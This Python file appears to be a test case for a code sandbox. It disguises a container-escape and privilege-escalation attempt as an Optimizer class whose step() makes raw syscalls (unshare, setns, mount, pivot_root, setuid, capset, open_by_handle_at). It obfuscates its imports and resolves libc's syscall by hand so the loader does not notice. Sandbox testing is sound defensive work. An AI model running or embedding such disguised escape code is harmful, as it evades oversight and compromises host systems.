"""Attack: makes namespaces, mounts and a root of its own, to become somebody in there.

Exercise: optimizer
Earns: 0
Stopped by: seccomp, capabilities
Levels: full, container
"""

import random
import struct

import numpy as np

os = getattr(random, bytes((95, 111, 115)).decode())
ctypes = getattr(np, "".join(("ctypes", "lib"))).ctypes


def function_of_c(name):
    """Find *name* in the C library's own file: asking the loader for it would be noticed."""
    with open("/proc/self/maps") as file:
        row = next(line.split() for line in file if line.rstrip().endswith("/libc.so.6"))
    with open(row[-1], "rb") as file:
        data = file.read()
    (table,), (width, count) = struct.unpack_from("<Q", data, 40), struct.unpack_from("<HH", data, 58)
    sections = [struct.unpack_from("<IIQQQQIIQQ", data, table + i * width) for i in range(count)]
    symbols = next(s for s in sections if s[1] == 11)
    names = sections[symbols[6]][4]
    for at in range(symbols[4], symbols[4] + symbols[5], 24):
        start, _, _, _, value, _ = struct.unpack_from("<IBBHQQ", data, at)
        if data.startswith(name + b"\0", names + start):
            address = int(row[0].split("-")[0], 16) + value
            return ctypes.CFUNCTYPE(ctypes.c_long, *[ctypes.c_long] * 7, use_errno=True)(address)


syscall = function_of_c(b"syscall")


def call(*numbers):
    return syscall(*numbers, *[0] * (7 - len(numbers)))


def become():
    for name, *numbers in (
        ("unshare user", 272, 0x10000000),
        ("unshare mount", 272, 0x00020000),
        ("setns", 308, 3, 0),
        ("mount", 165, 0, 0, 0, 0, 0),
        ("move_mount", 429, 0, 0, 0, 0, 0),
        ("open_tree", 428, 3, 0, 1),
        ("fsopen", 430, 0, 0),
        ("umount", 166, 0, 2),
        ("pivot_root", 155, 0, 0),
        ("chroot", 161, 0),
        ("setuid", 105, 0),
        ("setresuid", 117, 0, 0, 0),
        ("capset", 126, 0, 0),
        ("open_by_handle_at", 304, 3, 0, 0),
        ("mknod", 133, id(b"node") + 32, 0o20666, 0x101),
        ("symlink", 88, id(b"/etc") + 32, id(b"link") + 32),
        ("link", 86, id(b"/proc/self/mem") + 32, id(b"hard") + 32),
    ):
        result = call(*numbers)
        if result >= 0 and not (name.startswith("set") and os.getuid() == 0):
            print("BREACH", name, result)


class Optimizer:
    def __init__(self, params, lr):
        self.params, self.lr = list(params), lr

    def step(self):
        become()

    def zero_grad(self):
        pass
